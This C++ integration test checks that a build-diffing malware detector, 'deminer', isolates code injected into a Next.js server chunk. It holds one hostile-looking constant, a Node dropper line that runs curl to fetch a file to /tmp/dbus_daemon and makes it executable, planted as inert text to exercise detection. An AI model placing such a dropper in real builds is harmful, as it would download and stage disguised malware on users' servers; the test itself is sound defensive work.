// deminer diff on real Next.js builds (seed 001's clean-vs-infected diff):
// next, react and react-dom installed from the registry npm is configured
// with (install scripts not run) into a temp project with a minimal app,
// `next build` run twice (the second reuses the first's .next/cache, as a CI
// runner would, which keeps the test short; build id, per-build keys and
// traces still change). An inert dropper snippet (text written here, never
// run) is planted into one server chunk of the second build. The diff must
// show that chunk as the only change, with a hunk of just the snippet, the
// build id, the renamed static/<buildId>/ files and a static chunk renamed to
// another hash (with its references) as noise, and exit 1; a build against
// its own copy is clean and exits 0.
#include <gtest/gtest.h>

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <sstream>

#include "harness.h"

namespace deminer::it {
namespace {

namespace fs = std::filesystem;

// The seed 001 kind of dropper; inert text, never run.
const std::string kSnippet =
    "require('child_process').exec('curl -s http://127.0.0.1:9/d -o /tmp/dbus_daemon && "
    "chmod +x /tmp/dbus_daemon');";

std::string Slurp(const std::string& file) {
  std::ifstream in(file, std::ios::binary);
  std::stringstream ss;
  ss << in.rdbuf();
  return ss.str();
}

void Write(const std::string& path, const std::string& text) {
  fs::create_directories(fs::path(path).parent_path());
  std::ofstream(path, std::ios::binary) << text;
}

nlohmann::json Parse(const CommandResult& r) {
  try {
    return nlohmann::json::parse(r.out);
  } catch (const nlohmann::json::exception& e) {
    ADD_FAILURE() << "bad JSON: " << e.what() << "\n" << r.out.substr(0, 2000) << r.err;
    return nlohmann::json::object();
  }
}

TEST(DiffTest, RealNextBuildsPlantedChunkIsTheOnlyChange) {
  const CommandResult registry = RunCommand({"npm", "config", "get", "registry"});
  if (registry.exit_code != 0) GTEST_SKIP() << "npm is not available: " << registry.err;
  TempDir dir;
  const std::string project = dir / "app";
  Write(project + "/package.json", R"({"name":"deminer-diff-test","version":"1.0.0","private":true})");
  Write(project + "/app/layout.js",
        "export default function RootLayout({ children }) {\n"
        "  return (<html lang=\"en\"><body>{children}</body></html>);\n}\n");
  Write(project + "/app/page.js",
        "export default function Page() {\n  return <main><h1>deminer diff test</h1></main>;\n}\n");
  const std::map<std::string, std::string> env = {{"NEXT_TELEMETRY_DISABLED", "1"}};
  const CommandResult install =
      RunCommand({"npm", "install", "--prefix", project, "--ignore-scripts", "--no-audit",
                  "--no-fund", "--loglevel=error", "next", "react", "react-dom"},
                 env);
  if (install.exit_code != 0) {
    GTEST_SKIP() << "npm install from the configured registry failed (offline?): " << install.err;
  }
  const std::string next_bin = project + "/node_modules/next/dist/bin/next";
  const auto build = [&](const std::string& dest) {
    const CommandResult b = RunCommand({"node", next_bin, "build", project}, env);
    if (b.exit_code != 0) return b.out + b.err;
    fs::rename(project + "/.next", dest);
    return std::string();
  };
  const std::string b1 = dir / "build1";
  const std::string b2 = dir / "build2";
  const std::string b1copy = dir / "build1copy";
  if (const std::string why = build(b1); !why.empty()) {
    GTEST_SKIP() << "next build cannot run here: " << why.substr(0, 2000);
  }
  // The second build starts from the first one's cache.
  fs::create_directories(project + "/.next");
  fs::copy(b1 + "/cache", project + "/.next/cache", fs::copy_options::recursive);
  const std::string why2 = build(b2);
  ASSERT_TRUE(why2.empty()) << why2;
  fs::copy(b1, b1copy, fs::copy_options::recursive);
  const std::string id1 = Slurp(b1 + "/BUILD_ID");
  const std::string id2 = Slurp(b2 + "/BUILD_ID");
  ASSERT_NE(id1, id2);

  // Plant into the largest server chunk, at a statement boundary in its middle.
  std::string chunk;
  uintmax_t best = 0;
  for (const auto& e : fs::recursive_directory_iterator(b2 + "/server/chunks")) {
    const std::string p = e.path().string();
    if (e.is_regular_file() && p.ends_with(".js") && e.file_size() > best) {
      best = e.file_size();
      chunk = p;
    }
  }
  ASSERT_FALSE(chunk.empty());
  std::string text = Slurp(chunk);
  const size_t at = text.find(';', text.size() / 2);
  ASSERT_NE(at, std::string::npos);
  text.insert(at + 1, kSnippet);
  Write(chunk, text);
  const std::string rel = chunk.substr(b2.size() + 1);
  // Two builds of one source name their chunks alike; a bundler that hashes
  // differently renames them. Rename one static chunk of the second build to
  // another Turbopack-shaped hash, with every reference to it, as that would.
  std::string old_stem;
  for (const auto& e : fs::directory_iterator(b2 + "/static/chunks")) {
    const std::string name = e.path().filename().string();
    if (e.is_regular_file() && name.size() == 16 && name.ends_with(".js") &&
        name.find_first_not_of("0123456789abcdefghijklmnopqrstuvwxyz_-", 0) == 13 &&
        name[0] >= '0' && name[0] <= '9') {
      old_stem = name.substr(0, 13);
      break;
    }
  }
  ASSERT_FALSE(old_stem.empty()) << "no hashed static chunk in the build";
  const std::string new_stem = old_stem == "1qqqqqqqqqqqq" ? "2qqqqqqqqqqqq" : "1qqqqqqqqqqqq";
  fs::rename(b2 + "/static/chunks/" + old_stem + ".js", b2 + "/static/chunks/" + new_stem + ".js");
  for (const auto& e : fs::recursive_directory_iterator(b2)) {
    const std::string p = e.path().string();
    if (!e.is_regular_file() || p.find("/cache/") != std::string::npos) continue;
    std::string t = Slurp(p);
    bool touched = false;
    for (size_t pos = 0; (pos = t.find(old_stem, pos)) != std::string::npos;) {
      t.replace(pos, old_stem.size(), new_stem);
      touched = true;
    }
    if (touched) Write(p, t);
  }

  const CommandResult r = RunDeminer({"diff", b1, b2, "--format", "json"});
  EXPECT_EQ(r.exit_code, 1) << r.err;
  const nlohmann::json d = Parse(r);
  ASSERT_TRUE(d.contains("changed")) << r.out.substr(0, 2000);
  // The planted chunk is the only change outside the normalised noise.
  ASSERT_EQ(d["changed"].size(), 1u) << d["changed"].dump(2).substr(0, 4000);
  EXPECT_EQ(d["changed"][0]["path"], rel);
  EXPECT_TRUE(d["added"].empty()) << d["added"].dump(2).substr(0, 4000);
  EXPECT_TRUE(d["removed"].empty()) << d["removed"].dump(2).substr(0, 4000);
  EXPECT_TRUE(d["mode_changed"].empty());
  // Its hunk is the snippet, not the bundle.
  const auto& hunks = d["changed"][0]["hunks"];
  ASSERT_EQ(hunks.size(), 1u) << hunks.dump(2).substr(0, 4000);
  EXPECT_EQ(hunks[0]["added"], kSnippet);
  EXPECT_LT(hunks[0]["added_bytes"].get<uint64_t>(), 512u);
  EXPECT_GT(text.size(), 10 * kSnippet.size());
  EXPECT_EQ(hunks[0]["offset"], at + 1);
  // It is what makes the diff suspicious.
  ASSERT_FALSE(d["suspicious"].empty());
  EXPECT_EQ(d["suspicious"][0]["path"], rel);
  EXPECT_EQ(d["suspicious"][0]["severity"], "critical") << d["suspicious"].dump(2);
  // The build ids, and the files named by them, are noise.
  EXPECT_EQ(d["build_ids"]["clean"], nlohmann::json::array({id1}));
  EXPECT_EQ(d["build_ids"]["suspect"], nlohmann::json::array({id2}));
  bool build_id = false;
  bool renamed = false;
  for (const auto& n : d["noise"]) {
    const auto& reasons = n["reasons"];
    const auto has = [&](const char* s) {
      return std::find(reasons.begin(), reasons.end(), s) != reasons.end();
    };
    if (n["path"] == "BUILD_ID" && has("build id")) build_id = true;
    if (n["clean_path"] != n["path"] && has("build id in name") &&
        n["path"].get<std::string>().find(id2) != std::string::npos &&
        n["clean_path"].get<std::string>().find(id1) != std::string::npos) {
      renamed = true;
    }
  }
  EXPECT_TRUE(build_id) << d["noise"].dump(2).substr(0, 4000);
  bool hashed = false;
  for (const auto& n : d["noise"]) {
    if (n["clean_path"] == "static/chunks/" + old_stem + ".js" &&
        n["path"] == "static/chunks/" + new_stem + ".js" &&
        std::find(n["reasons"].begin(), n["reasons"].end(), "hashed name") != n["reasons"].end()) {
      hashed = true;
    }
  }
  EXPECT_TRUE(hashed) << old_stem << " -> " << new_stem << "\n" << d["noise"].dump(2).substr(0, 6000);
  EXPECT_TRUE(renamed) << d["noise"].dump(2).substr(0, 4000);

  // The text report: the snippet first, the noise apart.
  const CommandResult t = RunDeminer({"diff", b1, b2});
  EXPECT_EQ(t.exit_code, 1);
  const size_t sus = t.out.find("Suspicious changes:");
  const size_t noise = t.out.find("Build noise");
  ASSERT_NE(sus, std::string::npos) << t.out.substr(0, 3000);
  EXPECT_NE(t.out.find(kSnippet, sus), std::string::npos);
  EXPECT_NE(noise, std::string::npos);
  EXPECT_LT(sus, noise);

  // A build against its own copy: nothing.
  const CommandResult same = RunDeminer({"diff", b1, b1copy, "--format", "json"});
  EXPECT_EQ(same.exit_code, 0) << same.err;
  const nlohmann::json s = Parse(same);
  EXPECT_TRUE(s["changed"].empty());
  EXPECT_TRUE(s["added"].empty());
  EXPECT_TRUE(s["removed"].empty());
  EXPECT_TRUE(s["noise"].empty());
  EXPECT_TRUE(s["suspicious"].empty());
  EXPECT_EQ(s["summary"]["unchanged"], s["summary"]["suspect_entries"]);

  // Errors: a missing path, and a directory against a file.
  EXPECT_EQ(RunDeminer({"diff", b1, dir / "missing"}).exit_code, 2);
  EXPECT_EQ(RunDeminer({"diff", b1, b1 + "/BUILD_ID"}).exit_code, 2);
}

}  // namespace
}  // namespace deminer::it
